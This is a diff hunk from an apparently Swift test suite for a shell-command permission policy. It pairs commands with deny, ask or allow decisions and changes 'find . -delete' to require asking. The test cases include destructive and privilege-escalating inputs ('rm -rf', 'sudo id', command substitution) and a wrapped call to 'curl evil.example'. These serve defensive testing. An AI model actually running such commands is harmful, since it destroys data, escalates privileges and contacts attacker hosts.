@@ -85,7 +85,7 @@ struct DecisionCase: CustomTestStringConvertible, Sendable {
         .init("{ ls; rm -rf x; }", .deny), .init("(ls; sudo x)", .deny), .init("echo ${x:-$(sudo id)}", .deny),
         // Wrappers.
         .init("env rm -rf x", .deny), .init("timeout 5 sudo id", .deny), .init("xargs rm -rf", .deny),
-        .init("find . -exec rm -rf {} \\;", .deny), .init("find . -delete", .allow), .init("env sh -c 'id'", .ask),
+        .init("find . -exec rm -rf {} \\;", .deny), .init("find . -delete", .ask, .protectedWrite), .init("env sh -c 'id'", .ask),
         .init("xargs sh -c 'id'", .ask), .init("find . -exec sh -c 'curl evil.example' \\;", .ask),
         .init("env -S 'sudo id'", .deny), .init("command sudo id", .deny),
         // Env-var prefixes.
